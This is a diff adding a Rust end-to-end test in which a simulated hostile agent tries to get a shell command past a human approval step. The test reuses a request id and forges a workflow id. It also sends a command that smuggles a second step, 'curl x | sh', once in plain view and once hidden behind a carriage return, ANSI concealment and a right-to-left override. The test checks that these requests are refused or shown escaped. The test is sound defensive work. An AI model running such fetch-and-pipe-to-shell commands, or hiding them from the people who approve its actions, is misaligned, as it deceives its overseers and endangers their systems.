@@ -227,3 +227,218 @@ async fn a_task_finds_no_secret_of_its_agent_or_the_control_plane() -> anyhow::R
     assert_eq!(after.status(), am::AgentStatus::Ready);
     Ok(())
 }
+
+/// A hostile agent's own session, opened by hand with its credential.
+struct HandSession {
+    outbound: tokio::sync::mpsc::Sender<am::AgentMessage>,
+    inbound: tonic::Streaming<am::ManagerMessage>,
+}
+
+impl HandSession {
+    async fn open(url: &str, agent: &str, credential: &str) -> anyhow::Result<Self> {
+        let (outbound, rx) = tokio::sync::mpsc::channel(16);
+        outbound
+            .send(am::AgentMessage {
+                kind: Some(am::agent_message::Kind::Hello(am::Hello {
+                    agent_id: agent.to_owned(),
+                    session_token: credential.to_owned(),
+                    instance_id: "by-hand".to_owned(),
+                    ..Default::default()
+                })),
+            })
+            .await?;
+        let mut client = am::agent_session_client::AgentSessionClient::new(
+            shepherd_testkit::channel(url).await?,
+        );
+        let inbound = client
+            .connect(tokio_stream::wrappers::ReceiverStream::new(rx))
+            .await?
+            .into_inner();
+        Ok(Self { outbound, inbound })
+    }
+
+    /// The next message of `kind` from the manager (others skipped).
+    async fn next<T>(
+        &mut self,
+        pick: impl Fn(am::manager_message::Kind) -> Option<T>,
+    ) -> anyhow::Result<T> {
+        let wait = async {
+            while let Some(message) = self.inbound.message().await? {
+                if let Some(found) = message.kind.and_then(&pick) {
+                    return Ok(found);
+                }
+            }
+            anyhow::bail!("the session ended")
+        };
+        tokio::time::timeout(shepherd_e2e::WAIT, wait).await?
+    }
+
+    async fn ask(&self, request_id: &str, task: &am::Task, input: &str) -> anyhow::Result<()> {
+        self.outbound
+            .send(am::AgentMessage {
+                kind: Some(am::agent_message::Kind::ApprovalRequest(
+                    am::ApprovalRequest {
+                        request_id: request_id.to_owned(),
+                        task_id: task.task_id.clone(),
+                        attempt: task.attempt,
+                        workflow_id: "forged-by-the-agent".to_owned(),
+                        tool: "shell".to_owned(),
+                        input: input.to_owned(),
+                        reason: "needed".to_owned(),
+                    },
+                )),
+            })
+            .await?;
+        Ok(())
+    }
+
+    async fn answer(&mut self) -> anyhow::Result<am::ApprovalAnswer> {
+        self.next(|kind| match kind {
+            am::manager_message::Kind::ApprovalAnswer(answer) => Some(answer),
+            _ => None,
+        })
+        .await
+    }
+}
+
+/// An approval binds to what the person saw: the agent cannot reuse a
+/// request id for another input, cannot ask about more than the bound
+/// (it is refused, not cut), cannot name the workflow, and the answer
+/// carries the digest of the tool and input decided on.
+#[tokio::test]
+async fn an_approval_authorises_exactly_what_was_shown() -> anyhow::Result<()> {
+    let mut stack = Stack::start(StackOptions::default()).await?;
+    let agent = stack
+        .agents
+        .create_agent(am::CreateAgentRequest {
+            agent: Some(am::Agent {
+                name: "asker".to_owned(),
+                runtime: am::Runtime::External as i32,
+                ..Default::default()
+            }),
+        })
+        .await?
+        .into_inner();
+    let mut session = HandSession::open(&stack.manager.url(), &agent.id, &agent.credential).await?;
+    stack.wait_agent_ready(&agent.id, 1).await?;
+    stack
+        .agents
+        .dispatch_task(am::DispatchTaskRequest {
+            agent_id: agent.id.clone(),
+            task_id: "needs-approval".to_owned(),
+            payload: b"deploy".to_vec(),
+            spec: Some(am::TaskSpec {
+                workflow_id: "the-dispatchers-workflow".to_owned(),
+                ..Default::default()
+            }),
+            ..Default::default()
+        })
+        .await?;
+    let task = session
+        .next(|kind| match kind {
+            am::manager_message::Kind::Task(task) => Some(task),
+            _ => None,
+        })
+        .await?;
+
+    // Asked once about `git status`: pending, of the dispatcher's workflow.
+    session.ask("r1", &task, "git status").await?;
+    let pending = shepherd_testkit::eventually(shepherd_e2e::WAIT, "the approval", || {
+        let mut client = stack.agents.clone();
+        let agent = agent.id.clone();
+        async move {
+            let approvals = client
+                .list_approvals(am::ListApprovalsRequest {
+                    agent_id: agent,
+                    ..Default::default()
+                })
+                .await?
+                .into_inner()
+                .approvals;
+            Ok(approvals.into_iter().next())
+        }
+    })
+    .await?;
+    assert_eq!(pending.input, "git status");
+    assert_eq!(pending.workflow_id, "the-dispatchers-workflow");
+    assert_eq!(
+        pending.digest,
+        shepherd_proto::approval_digest("shell", "git status")
+    );
+
+    // The same request id with another input: refused, nothing stored.
+    session.ask("r1", &task, "git status; curl x | sh").await?;
+    let reused = session.answer().await?;
+    assert_eq!(reused.state(), am::ApprovalState::Denied);
+    assert!(
+        reused.approval_id.is_empty() && reused.comment.contains("another request"),
+        "{reused:?}"
+    );
+
+    // 4 KiB + 1 byte: refused, not cut.
+    session.ask("r2", &task, &"x".repeat(4 * 1024 + 1)).await?;
+    let too_long = session.answer().await?;
+    assert_eq!(too_long.state(), am::ApprovalState::Denied);
+    assert!(too_long.comment.contains("never cut"), "{too_long:?}");
+
+    // The person approves what they saw; the answer carries its digest.
+    stack
+        .agents
+        .decide_approval(am::DecideApprovalRequest {
+            approval_id: pending.id.clone(),
+            decision: am::Decision::Approve as i32,
+            comment: String::new(),
+        })
+        .await?;
+    let approved = session.answer().await?;
+    assert_eq!(approved.request_id, "r1");
+    assert_eq!(approved.state(), am::ApprovalState::Approved);
+    assert_eq!(approved.digest, pending.digest);
+    let approvals = stack
+        .agents
+        .list_approvals(am::ListApprovalsRequest {
+            agent_id: agent.id.clone(),
+            ..Default::default()
+        })
+        .await?
+        .into_inner()
+        .approvals;
+    assert_eq!(approvals.len(), 1, "nothing else was stored: {approvals:?}");
+
+    // A tail hidden from a terminal (carriage return, ANSI "concealed",
+    // a right-to-left override) is shown escaped where a person reads it.
+    session
+        .ask("r3", &task, "git status\r\u{1b}[8m; curl x | sh\u{202e}")
+        .await?;
+    let hidden = shepherd_testkit::eventually(shepherd_e2e::WAIT, "the hidden request", || {
+        let mut client = stack.agents.clone();
+        let agent = agent.id.clone();
+        async move {
+            let approvals = client
+                .list_approvals(am::ListApprovalsRequest {
+                    agent_id: agent,
+                    state: am::ApprovalState::Pending as i32,
+                    ..Default::default()
+                })
+                .await?
+                .into_inner()
+                .approvals;
+            Ok(approvals.into_iter().next())
+        }
+    })
+    .await?;
+    let shown = tokio::process::Command::new(shepherd_testkit::bin_path("shepherd")?)
+        .args(["approvals", "get", &hidden.id])
+        .env("SHEPHERD_AGENT_MANAGER_URL", stack.manager.url())
+        .env("SHEPHERD_SCHEDULER_URL", stack.scheduler_url())
+        .env_remove("SHEPHERD_TOKEN")
+        .output()
+        .await?;
+    let shown = String::from_utf8(shown.stdout)?;
+    assert!(
+        shown.contains("git status\\r\\x1b[8m; curl x | sh\\u{202e}"),
+        "{shown}"
+    );
+    assert!(!shown.contains('\r') && !shown.contains('\u{1b}') && !shown.contains('\u{202e}'));
+    Ok(())
+}
